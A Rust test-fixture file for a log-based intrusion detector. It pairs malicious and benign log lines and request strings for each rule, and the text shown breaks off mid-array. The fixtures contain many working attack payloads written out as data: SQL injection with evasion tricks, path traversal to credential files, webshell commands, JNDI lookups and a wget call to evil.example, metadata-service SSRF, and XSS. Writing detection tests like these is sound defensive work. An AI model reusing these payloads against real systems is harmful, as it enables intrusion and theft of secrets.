//! Events for every rule that comes with the program: what it must find, and what it must not.

/// Rules of one event: the file's name, an event that it must find, one that it must not.
pub const CASES: &[(&str, &str, &str)] = &[
    (
        "revoked-key-used",
        r#"{"event":"auth.rejected","reason":"key revoked","apiKeyId":"key_2"}"#,
        r#"{"event":"auth.rejected","reason":"bad signature"}"#,
    ),
    (
        "leaked-key-trade",
        r#"{"time":"2026-11-24T01:02:03.004Z","event":"trade.created","userAgent":"curl/8.5","value":"120000.00"}"#,
        r#"{"event":"trade.created","userAgent":"web-client/2.1"}"#,
    ),
    (
        "pause-flag-changed",
        r#"{"event":"config.changed","key":"TRADING_PAUSED","value":"false"}"#,
        r#"{"event":"config.changed","key":"theme"}"#,
    ),
    (
        "admin-endpoint",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /admin/users HTTP/1.1" 200 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /admin/users HTTP/1.1" 403 5 "-" "x""#,
    ),
    (
        "sql-injection-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /t?id=1%27%20OR%201=1 HTTP/1.1" 200 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /t?sort=selected HTTP/1.1" 200 5 "-" "x""#,
    ),
    (
        "path-traversal-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /x/..%2F..%2Fetc/passwd HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /x/v1..2/doc HTTP/1.1" 200 5 "-" "x""#,
    ),
    (
        "sudo-root-shell",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
    ),
    (
        "sudo-command",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/useradd -m bob",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id useradd",
    ),
    (
        "ssh-account",
        "Nov 24 01:02:03 web sshd[77]: Accepted publickey for www-data from 1.2.3.4 port 5 ssh2",
        "Nov 24 01:02:03 web sshd[77]: Accepted publickey for www from 1.2.3.4 port 5 ssh2",
    ),
    (
        "header-injection-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GPOST / HTTP/1.1" 400 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "POST / HTTP/1.1" 400 5 "-" "x""#,
    ),
    (
        "open-redirect-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /login?next=//evil.example HTTP/1.1" 302 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /login?next=/orders HTTP/1.1" 302 5 "-" "x""#,
    ),
    (
        "remote-file-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?page=http://198.51.100.2/x.txt HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?page=about.txt HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "object-injection-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?__proto__[a]=1 HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?proto[a]=1 HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "header-content-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0' AND SLEEP(5)#""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "https://a.example/?q=it%27s" "Mozilla/5.0 (X11) and more""#,
    ),
    (
        "web-method-odd",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "TRACE / HTTP/1.1" 405 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "PUT /api/orders/7 HTTP/1.1" 200 5 "-" "x""#,
    ),
    (
        "database-injection-error",
        "2026-11-24 01:02:03 UTC [5] ERROR:  each UNION query must have the same number of columns at character 9",
        "2026-11-24 01:02:03 UTC [5] ERROR:  syntax error at or near \"form\" at character 9",
    ),
    (
        "database-tampering",
        "2026-11-24 01:02:03 UTC [5] LOG:  parameter \"log_statement\" changed to \"none\"",
        "2026-11-24 01:02:03 UTC [5] LOG:  parameter \"log_statement\" changed to \"all\"",
    ),
    (
        "database-keys-read",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: SELECT * FROM api_keys",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: SELECT * FROM api_keys WHERE id = 7",
    ),
    (
        "ssh-root-password",
        "Nov 24 01:02:03 web sshd[77]: Accepted password for root from 1.2.3.4 port 5 ssh2",
        "Nov 24 01:02:03 web sshd[77]: Accepted publickey for root from 1.2.3.4 port 5 ssh2",
    ),
    (
        "secrets-mass-read",
        r#"{"eventSource":"secretsmanager.amazonaws.com","eventName":"BatchGetSecretValue"}"#,
        r#"{"eventSource":"secretsmanager.amazonaws.com","eventName":"GetSecretValue","userAgent":"aws-sdk-js/3"}"#,
    ),
    (
        "cloudtrail-stopped",
        r#"{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}"#,
        r#"{"eventSource":"cloudtrail.amazonaws.com","eventName":"DescribeTrails"}"#,
    ),
    (
        "iam-access-key-created",
        r#"{"eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey"}"#,
        r#"{"eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","errorCode":"AccessDenied"}"#,
    ),
    (
        "database-persistence",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: CREATE OR REPLACE FUNCTION x() RETURNS void",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: select 'create role x'",
    ),
    (
        "console-login-without-mfa",
        r#"{"eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","additionalEventData":{"MFAUsed":"No"},"responseElements":{"ConsoleLogin":"Success"}}"#,
        r#"{"eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","additionalEventData":{"MFAUsed":"Yes"},"responseElements":{"ConsoleLogin":"Success"}}"#,
    ),
    (
        "aws-root-used",
        r#"{"eventSource":"iam.amazonaws.com","eventName":"ListUsers","eventType":"AwsApiCall","userIdentity":{"type":"Root"}}"#,
        r#"{"eventSource":"kms.amazonaws.com","eventName":"Decrypt","eventType":"AwsApiCall","userIdentity":{"type":"Root","invokedBy":"s3.amazonaws.com"}}"#,
    ),
    (
        "aws-logs-off",
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"DeleteFlowLogs"}"#,
        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutBucketLogging","requestParameters":{"BucketLoggingStatus":{"LoggingEnabled":{"TargetBucket":"b"}}}}"#,
    ),
    (
        "kms-key-disabled",
        r#"{"eventSource":"kms.amazonaws.com","eventName":"ScheduleKeyDeletion"}"#,
        r#"{"eventSource":"kms.amazonaws.com","eventName":"DisableKey","errorCode":"AccessDenied"}"#,
    ),
    (
        "security-group-opened",
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}}"#,
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}}}"#,
    ),
    (
        "sts-session-made",
        r#"{"eventSource":"sts.amazonaws.com","eventName":"GetFederationToken"}"#,
        r#"{"eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity"}"#,
    ),
    (
        "iam-rights-widened",
        r#"{"eventSource":"iam.amazonaws.com","eventName":"AttachUserPolicy","requestParameters":{"policyArn":"x"}}"#,
        r#"{"eventSource":"iam.amazonaws.com","eventName":"ListAttachedUserPolicies"}"#,
    ),
    (
        "iam-console-access-made",
        r#"{"eventSource":"iam.amazonaws.com","eventName":"CreateLoginProfile"}"#,
        r#"{"eventSource":"iam.amazonaws.com","eventName":"GetLoginProfile"}"#,
    ),
    (
        "snapshot-shared",
        r#"{"eventSource":"rds.amazonaws.com","eventName":"ModifyDBSnapshotAttribute","requestParameters":{"attributeName":"restore","valuesToAdd":["all"]}}"#,
        r#"{"eventSource":"rds.amazonaws.com","eventName":"ModifyDBSnapshotAttribute","requestParameters":{"attributeName":"restore","valuesToRemove":["all"]}}"#,
    ),
    (
        "api-key-made",
        r#"{"event":"apikey.created","apiKeyId":"key_9","user":"eve"}"#,
        r#"{"event":"apikey.listed","user":"eve"}"#,
    ),
    (
        "user-role-raised",
        r#"{"event":"user.role_changed","user":"eve","newRole":"admin"}"#,
        r#"{"event":"user.role_changed","user":"eve","newRole":"viewer"}"#,
    ),
    (
        "withdrawal-address-changed",
        r#"{"event":"withdrawal.address_changed","account":"a","address":"x"}"#,
        r#"{"event":"withdrawal.requested","account":"a"}"#,
    ),
    (
        "scanner-user-agent",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "-" "sqlmap/1.7""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /sqlmap HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
    ),
    (
        "metadata-service-asked-for",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/ HTTP/1.1" 200 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /latest/news HTTP/1.1" 200 5 "-" "x""#,
    ),
    (
        "webshell",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /uploads/a.php?cmd=whoami HTTP/1.1" 200 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /uploads/a.php?cmd=whoami HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "database-program-run",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: COPY t FROM PROGRAM 'curl http://x'",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: COPY t FROM STDIN",
    ),
    (
        "web-scan",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /shop/basket.cfm HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /files/x.tar.gz HTTP/1.1" 416 5 "-" "x""#,
    ),
    (
        "database-ransom",
        "2026-11-24 01:02:03.004 UTC [5] LOG:  statement: CREATE TABLE readme_to_recover (text_field VARCHAR(255))",
        "2026-11-24 01:02:03.004 UTC [5] LOG:  statement: CREATE TABLE readme (body text)",
    ),
    (
        "database-injection",
        "2026-11-24 01:02:03.004 UTC [5] STATEMENT:  SELECT * FROM p WHERE id = 1 UNION SELECT NULL,usename FROM pg_user--",
        "2026-11-24 01:02:03.004 UTC [5] LOG:  statement: SELECT id FROM a UNION SELECT id FROM b",
    ),
    (
        "database-superuser",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: ALTER ROLE app WITH SUPERUSER",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: ALTER ROLE app WITH NOSUPERUSER",
    ),
    (
        "database-log-changed",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: ALTER SYSTEM SET log_statement = 'none'",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: ALTER SYSTEM SET work_mem = '64MB'",
    ),
    (
        "pause-guard-touched",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP TRIGGER portcullis_guard ON \"Trade\"",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: SELECT * FROM portcullis.flag",
    ),
    (
        "authorized-keys-changed",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys",
        "Nov 24 01:02:03 web sshd[77]: Authentication refused: bad ownership for file /root/.ssh/authorized_keys",
    ),
    (
        "cron-changed",
        "Nov 24 01:02:03 web crontab[9]: (eve) REPLACE (eve)",
        "Nov 24 01:02:03 web crontab[9]: (eve) LIST (eve)",
    ),
    (
        "ssh-forwarding",
        "Nov 24 01:02:03 web sshd[77]: debug1: server_input_channel_open: ctype direct-tcpip rchan 2",
        "Nov 24 01:02:03 web sshd[77]: Accepted publickey for eve from 1.2.3.4 port 5 ssh2",
    ),
    (
        "user-made-on-host",
        "Nov 24 01:02:03 web usermod[9]: add 'eve' to group 'sudo'",
        "Nov 24 01:02:03 web usermod[9]: add 'eve' to group 'games'",
    ),
    (
        "logs-cut",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/journalctl --vacuum-time=1s",
        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/journalctl -f",
    ),
    (
        "logs-silent",
        "Nov 24 01:02:03 web systemd-journald[9]: Suppressed 512 messages from app.service",
        "Nov 24 01:02:03 web systemd-journald[9]: Journal started",
    ),
    (
        "lookup-injection-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=$%7bjndi:ldap://192.0.2.7/a%7d HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /docs/java-naming HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "code-injection-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /ping?ip=127.0.0.1%3bcat%20/tmp/x HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /search?q=cat+food HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "cross-site-scripting-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=javascript+tutorial HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "sensitive-file-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /.env.production HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /api/environment HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "webshell-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /c99.php HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /c99.php HTTP/1.1" 200 5 "-" "x""#,
    ),
    (
        "admin-page-probe",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /wp-login.php HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /wp-login.php HTTP/1.1" 200 5 "-" "x""#,
    ),
    (
        "internal-address-asked-for",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /fetch?url=http%3A%2F%2F127.0.0.1%3A6379 HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /r?url=https%3A%2F%2Fwww.example.com HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "request-encoded-twice",
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=1%2527 HTTP/1.1" 404 5 "-" "x""#,
        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?q=1%27 HTTP/1.1" 404 5 "-" "x""#,
    ),
    (
        "database-data-destroyed",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: TRUNCATE trades",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: TRUNCATE staging_import",
    ),
    (
        "database-secrets-read",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: select usename, passwd from pg_shadow",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: select rolname from pg_roles",
    ),
    (
        "database-defences-off",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP TRIGGER audit_trg ON trades",
        "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP INDEX old_idx",
    ),
    (
        "aws-credentials-harvested",
        r#"{"eventSource":"ssm.amazonaws.com","eventName":"GetParametersByPath","requestParameters":{"path":"/","withDecryption":true}}"#,
        r#"{"eventSource":"ssm.amazonaws.com","eventName":"GetParametersByPath","requestParameters":{"path":"/app","withDecryption":true}}"#,
    ),
    (
        "aws-identity-changed",
        r#"{"eventSource":"rolesanywhere.amazonaws.com","eventName":"CreateTrustAnchor","requestParameters":{}}"#,
        r#"{"eventSource":"rolesanywhere.amazonaws.com","eventName":"ListCreateTrustAnchor","requestParameters":{}}"#,
    ),
    (
        "aws-compute-taken",
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"ModifyInstanceAttribute","requestParameters":{"userData":"x"}}"#,
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"ModifyInstanceAttribute","requestParameters":{"ebsOptimized":true}}"#,
    ),
    (
        "aws-function-changed",
        r#"{"eventSource":"lambda.amazonaws.com","eventName":"CreateFunctionUrlConfig","requestParameters":{"authType":"NONE"}}"#,
        r#"{"eventSource":"lambda.amazonaws.com","eventName":"CreateFunctionUrlConfig","requestParameters":{"authType":"AWS_IAM"}}"#,
    ),
    (
        "aws-bucket-opened",
        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}}}"#,
        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Enabled"}}}"#,
    ),
    (
        "aws-objects-destroyed",
        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutObject","requestParameters":{"key":"HOW_TO_RESTORE.txt"}}"#,
        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutObject","requestParameters":{"key":"restored.txt"}}"#,
    ),
    (
        "aws-database-changed",
        r#"{"eventSource":"rds.amazonaws.com","eventName":"ModifyDBInstance","requestParameters":{"publiclyAccessible":true}}"#,
        r#"{"eventSource":"rds.amazonaws.com","eventName":"ModifyDBInstance","requestParameters":{"publiclyAccessible":false}}"#,
    ),
    (
        "aws-backups-destroyed",
        r#"{"eventSource":"backup.amazonaws.com","eventName":"DeleteBackupVault","requestParameters":{}}"#,
        r#"{"eventSource":"backup.amazonaws.com","eventName":"ListDeleteBackupVault","requestParameters":{}}"#,
    ),
    (
        "aws-resource-shared",
        r#"{"eventSource":"kms.amazonaws.com","eventName":"CreateGrant","requestParameters":{"granteePrincipal":"arn:aws:iam::123456789012:root"}}"#,
        r#"{"eventSource":"kms.amazonaws.com","eventName":"CreateGrant","requestParameters":{"granteePrincipal":"arn:aws:iam::123456789012:role/r"}}"#,
    ),
    (
        "aws-network-changed",
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"CreateTrafficMirrorSession","requestParameters":{}}"#,
        r#"{"eventSource":"ec2.amazonaws.com","eventName":"ListCreateTrafficMirrorSession","requestParameters":{}}"#,
    ),
    (
        "aws-service-abused",
        r#"{"eventSource":"account.amazonaws.com","eventName":"EnableRegion","requestParameters":{}}"#,
        r#"{"eventSource":"account.amazonaws.com","eventName":"ListEnableRegion","requestParameters":{}}"#,
    ),
    (
        "aws-discovery",
        r#"{"eventSource":"iam.amazonaws.com","eventName":"CreateUser","errorCode":"AccessDenied"}"#,
        r#"{"eventSource":"iam.amazonaws.com","eventName":"GetUser","errorCode":"AccessDenied"}"#,
    ),
];

/// Rules on requests: the file's name, requests that it must find, answered with success, and some that it must not.
pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
    (
        "sql-injection-probe",
        &[
            "/l?n=5%27%29%2F%2A%2A%2FoR%2F%2A%2A%2F1506%2F%2A%2A%2FbetWEEN%2F%2A%2A%2F1",
            "/l?n=-3461%27%29%2F%2A%21OR%2A%2F2659%2F%2A%21LIKE%2A%2F2659",
            "/l?n=-5707%27%29%2BOR%2B5247%3D1350",
            "/l?n=5%27%2BCHR%28113%29%7C%7CCHR%28107%29",
            "/l?n=5%27%3BIIF%286045%3D6045%2C1%2C1%2F0%29",
            "/l?n=5%20AND%20ELT%282687%3D8291%2C8291%29",
            "/l?n=5%20OR%20MAKE_SET%289958%3D9958%2C1761%29",
            "/item?id=1+UnIoN+sElEcT+1,2,3",
            "/item?id=1/**/UNION/**/SELECT/**/1,2",
            "/item?id=1%2f%2a%2a%2fUNION%2f%2a%2a%2fSELECT%201",
            "/item?id=1%2527%2520UNION%2520SELECT%25201",
            "/item?id=1%0d%0aUNION%0d%0aSELECT+1",
            "/item?id=1%a0union%a0select%a01",
            "/item?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201",
            "/item?id=1)%20union%20(select%201)",
            "/login?user=admin'--",
            "/login?user=admin%27%20--%20",
            "/login?user=admin%27%23",
            "/login?u=%27%7C%7C%27",
            "/login?u=x%27%20or%201%3D1--",
            "/item?id=1%20or%201=1",
            "/item?id=1%20AND%20281=282",
            "/item?id=-57%27%29%20OR%20294%3D294--",
            "/item?q=a%27%29%20OR%20(%27a%27%3D%27a",
            "/item?id=1%20or%20true--",
            "/item?id=1;SELECT%20PG_SLEEP(5)--",
            "/item?id=1%3B%20DROP%20TABLE%20trades",
            "/item?id=1%27%3bwaitfor+delay+%270%3a0%3a5%27--",
            "/item?id=1%20and%20ascii(substring((select%20password%20from%20users),1,1))%3E64",
            "/item?id=(SELECT%20(CASE%20WHEN%20(1%3D1)%20THEN%201%20ELSE%202%20END))",
            "/item?id=1+order+by+10--",
            "/item?id=1%27%20into%20outfile%20%27/tmp/x%27",
        ],
        &[
            "/search?q=src/**/index.ts",
            "/search?q=gift+if(you+like)",
            "/list?c=char(20)+varchar(30)",
            "/?q=select",
            "/union/select/committee",
            "/docs/sql/union-select-tutorial",
            "/search?q=european+union+select+committee",
            "/search?q=how+to+select+a+union+representative",
            "/search?q=rock%20and%20roll",
            "/search?q=5%20or%206%20bedrooms",
            "/search?q=windows+7+and+8",
            "/search?q=O%27Reilly",
            "/search?q=dungeons%27+and+dragons",
            "/search?q=%22foo%22+and+%22bar%22",
            "/search?q=order+by+phone",
            "/products?sort=created_at&order=desc",
            "/odata/T?$filter=Price%20gt%2020%20and%20Qty%20lt%205",
            "/blog/drop-table-jokes",
            "/css2?family=Roboto:wght@300;400&display=swap",
            "/x?d=2026-01-01;update=1",
            "/sleep-tracker?q=x",
        ],
    ),
    (
        "path-traversal-probe",
        &[
            "/static/..%2f..%2f..%2fetc%2fpasswd",
            "/static/..%252f..%252f..%252fetc/hostname",
            "/cgi-bin/.%2e/.%2e/.%2e/bin/ls",
            "/icons/.%%32%65/.%%32%65/x",
            "/x?f=..%5c..%5cboot.ini",
            "/x?f=....//....//etc/x",
            "/x?f=%c0%ae%c0%ae/x",
            "/x?f=%2fetc%2fpasswd",
            "/x?f=../../../../var/log/auth.log",
            "/x?f=file:///home/x",
            "/x?f=php://filter/convert.base64-encode/resource=index.php",
            "/x?f=/proc/self/environ",
            "/a/..;/manager/html",
            "/.ssh/id_rsa",
            "/api/.env",
            "/.git/HEAD",
        ],
        &[
            "/a/b/../c.css",
            "/v1..2/notes",
            "/compare/v1.0...v2.0",
            "/images/..jpg",
            "/environment",
            "/passwd-reset",
            "/docs/proc/self-service",
            "/.well-known/security.txt",
        ],
    ),
    (
        "webshell",
        &["/a.php?cmd=uname%20-a", "/img/x.php?c=id", "/b.aspx?exec=cmd.exe+/c+dir", "/x.jsp?cmd=/bin/bash+-c+id"],
        &["/seashell.php", "/index.php?sort=id&c=3", "/shop.php?c=cats", "/x.php?cmd=start", "/play?command=id"],
    ),
    (
        "admin-endpoint",
        &["/admin", "/ADMIN/users", "//admin/users", "/api/v1/admin/keys", "/admin?tab=users", "/administrator/"],
        &["/administrators", "/administration-guide", "/adminton-club", "/docs/admin-guide", "/useradmin"],
    ),
    (
        "metadata-service-asked-for",
        &[
            "/f?url=http://169.254.169.254/x",
            "/f?url=http%253A%252F%252F169.254.169.254%252F",
            "/f?url=http://169.254.170.2/v2/credentials/",
            "/f?url=http://2852039166/",
        ],
        &["/latest/meta-data-model", "/metadata/latest"],
    ),
    (
        "lookup-injection-probe",
        &[
            "/x?a=${jndi:ldap://evil.example/a}",
            "/x?a=%24%7B%24%7Blower:j%7Dndi:dns://evil.example/a%7D",
            "/x?a=${${::-j}${::-n}${::-d}i:${lower:l}dap://evil.example/a}",
            "/x?a=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%257D",
        ],
        &["/x?price=$5", "/x?t=%7B%7Bname%7D%7D"],
    ),
    (
        "code-injection-probe",
        &[
            "/x?ip=1;cat+/etc/hostname",
            "/x?ip=1%7Ccat%20/tmp/y",
            "/index.php?s=/Index/\\think\\app/invokefunction&vars[0]=system",
            "/x?c=wget%20http://evil.example/m.sh",
            "/x?t={{7*7}}",
            "/x?t=%7B%7B7%2A7%7D%7D",
            "/x?c=%253Bwget%2520http",
        ],
        &["/docs/cat-and-dog", "/search?q=curl+tutorial", "/calc?expr=7*7"],
    ),
    (
        "cross-site-scripting-probe",
        &[
            "/x?q=<svg/onload=alert(1)>",
            "/x?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E",
            "/x?q=%2522%253E%253Cscript%253E",
            "/x?u=javascript%3Aalert(1)",
            "/x?q=a%22%20onmouseover%3D%22x",
        ],
        &["/events?onload=false", "/icons/svg-icons", "/search?q=%3Ch1%3E", "/alerts?x=(1)"],
    ),
    (
        "sensitive-file-probe",
        &["/.git/config", "/backup.sql", "/actuator/heapdump", "/.DS_Store", "/app/.vscode/sftp.json"],
        &["/git/help", "/backup-plans", "/.well-known/security.txt"],
    ),
    (
        "internal-address-asked-for",
        &[
            "/f?u=http://localhost:2375/containers",
            "/f?u=gopher%3A%2F%2F127.0.0.1",
            "/f?u=http%3A%2F%2F%5B%3A%3A1%5D%2F",
        ],
        &["/f?u=https%3A%2F%2Fexample.com", "/localhost-guide"],
    ),
    (
        "request-encoded-twice",
        &["/x?q=%252527", "/x?q=%253Cb%253E", "/x?q=%25252e"],
        &["/x?state=%257B%2522a%2522%253A1%257D", "/x?q=50%25+off"],
    ),
    (
        "path-traversal-probe",
        &["/x?f=php%3A%2F%2Ffilter/x", "/x?f=phar://up/a.jpg", "/x?f=/etc/passwd%00"],
        &["/php-manual", "/zip-codes"],
    ),
    (
        "path-traversal-probe",
        &[
            "/x?f=/etc/fstab",
            "/x?f=%2Fetc%2Fnginx%2Fx",
            "/x?f=%2Fproc%2Fself",
            "/x?f=data://text/plain;base64,QQ==",
            "/x?f=data%253A%252F",
            "/x?f=compress.zlib:///tmp/x",
            "/x?f=%2Fetc%2Fissue%00.jpg",
            "/x?f=c:/inetpub",
            "/x?f=..%2f..%2f",
            "/x?f=..%2fconfig.php",
            "/x?f=....//....//var/x",
        ],
        &[
            "/a?next=%2Faccount%2F..%2Fhome",
            "/docs/etc/hosts-file",
            "/x?img=data:image/png;base64,QQ==",
            "/x?next=/home/user",
        ],
    ),
    (
        "sensitive-file-probe",
        &[
            "/id_ed25519",
            "/.gitignore",
            "/api/application.properties",
            "/shop.sql.gz",
            "/backup_2026-01-01.tar.gz",
            "/www-old.zip",
            "/config.inc.php.swp",
            "/settings.json~",
            "/wp-config.php.save",
            "/static/credentials.json",
            "/.bashrc",
            "/db.sqlite3",
            "/terraform.tfvars",
            "/elmah.axd",
        ],
        &[
            "/api/files/report.json.bak-not",
            "/settings/credentials.json-export",
            "/downloads/source-code-pro.zip",
            "/api/export?file=backup.zip",
            "/docs/.gitbook/x.png",
            "/reports/2026-01.zip",
            "/app/config.js",
            "/swagger-ui/index.html",
            "/package.json",
        ],
    ),
    (
        "internal-address-asked-for",
        &[
            "/f?u=http://127.1:8080/",
            "/f?u=http%3A%2F%2F10%2E0%2E0%2E5%3A9200",
            "/f?u=http://192.168.1.1/",
            "/f?u=https://user@172.20.0.3/",
            "/f?u=http%253A%252F%252Flocalhost%252Fadmin",
            "/f?u=http://2130706433/",
            "/f?u=http://[::ffff:7f00:1]/",
            "/f?u=http://redis:6379/",
            "/f?u=http://api.prod.svc.cluster.local/",
            "/f?u=ldap://10.0.0.1/x",
            "/f?u=http://x.oast.fun/",
        ],
        &[
            "/callback?url=http://localhost:3000/done",
            "/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcb",
            "/f?u=http://10percent.example.com/",
            "/api/blocks/0x7f000001",
            "/docs/ldap://intro",
            "/f?u=http://redis.example.com/",
            "/f?u=https%3A%2F%2F172.example.org",
            "/geo?ip=10.0.0.1",
        ],
    ),
    (
        "metadata-service-asked-for",
        &[
            "/f?u=http%3A%2F%2F169%2E254%2E169%2E254%2F",
            "/f?u=http://100.100.100.200/",
            "/f?u=http://metadata.google.internal/",
        ],
        &["/api/tx/0xa9fea9fe00112233445566", "/api/metadata/instances"],
    ),
    (
        "code-injection-probe",
        &[
            "/x?h=1;%20id",
            "/x?h=1%7C%7C%20ping%20-c%205%20127.0.0.1",
            "/x?h=1%26%26cat%20/x",
